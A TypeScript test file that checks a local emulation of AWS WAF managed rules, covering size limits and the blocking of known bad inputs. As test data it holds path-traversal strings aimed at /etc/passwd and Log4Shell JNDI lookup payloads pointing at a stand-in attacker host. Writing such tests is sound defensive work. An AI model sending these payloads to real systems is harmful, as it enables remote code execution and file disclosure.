import { expect, it } from 'vitest';
import { blockingRule, type ViewedRequest } from '../../../scripts/local/cloudfront/managed-rules.ts';

const COMMON = 'AWSManagedRulesCommonRuleSet';
const INPUTS = 'AWSManagedRulesKnownBadInputsRuleSet';

const blocked = (group: string, differing: Partial<ViewedRequest>, counted: string[] = []) =>
  blockingRule(group, counted, {
    method: 'GET',
    path: '/v1/me',
    query: '',
    headers: { host: 'app.example', 'user-agent': 'a browser' },
    body: Buffer.alloc(0),
    ...differing,
  });

it.each([COMMON, INPUTS])('%s lets a plain request through', (group) => {
  expect(blocked(group, {})).toBeUndefined();
});

it.each([
  ['SizeRestrictions_QUERYSTRING', (size: number) => ({ query: 'q'.repeat(size) }), 2048],
  ['SizeRestrictions_URIPATH', (size: number) => ({ path: '/'.padEnd(size, 'p') }), 1024],
  ['SizeRestrictions_BODY', (size: number) => ({ body: Buffer.alloc(size, 'b') }), 8192],
  [
    'SizeRestrictions_Cookie_HEADER',
    (size: number) => ({ headers: { 'user-agent': 'a', cookie: 'c'.repeat(size) } }),
    10_240,
  ],
] as const)('%s lets its last byte through and not the next', (rule, sized, most) => {
  expect([blocked(COMMON, sized(most)), blocked(COMMON, sized(most + 1))]).toEqual([undefined, rule]);
});

it.each([
  [COMMON, 'NoUserAgent_HEADER', { headers: { host: 'app.example' } }],
  [COMMON, 'GenericLFI_URIPATH', { path: '/v1/..%2f..%2fetc/passwd' }],
  [COMMON, 'GenericLFI_QUERYARGUMENTS', { query: 'file=../secret' }],
  [INPUTS, 'PROPFIND_METHOD', { method: 'PROPFIND' }],
  [INPUTS, 'Host_localhost_HEADER', { headers: { host: 'localhost:3000', 'user-agent': 'a' } }],
  [INPUTS, 'ExploitablePaths_URIPATH', { path: '/WEB-INF/web.xml' }],
  [INPUTS, 'Log4JRCE_HEADER', { headers: { 'user-agent': `\${jndi:ldap://evil.example/a}` } }],
  [INPUTS, 'Log4JRCE_QUERYSTRING', { query: 'q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%7D' }],
  [INPUTS, 'Log4JRCE_URIPATH', { path: '/$%7Bjndi:dns://evil.example%7D' }],
  [INPUTS, 'Log4JRCE_BODY', { body: Buffer.from(`{"name":"\${JNDI:ldap://evil.example}"}`) }],
] as const)('%s blocks by %s', (group, rule, request) => {
  expect(blocked(group, request)).toBe(rule);
});

it('looks at no more of a body than AWS does', () => {
  const at = (place: number) => ({ body: Buffer.from(`${'x'.repeat(place)}\${jndi:`) });

  expect([blocked(INPUTS, at(16_384 - 7)), blocked(INPUTS, at(16_384))]).toEqual([
    'Log4JRCE_BODY',
    undefined,
  ]);
});

it('passes over a rule that only counts', () => {
  const large = { body: Buffer.alloc(9000, 'b') };

  expect(blocked(COMMON, large, ['SizeRestrictions_BODY'])).toBeUndefined();
});
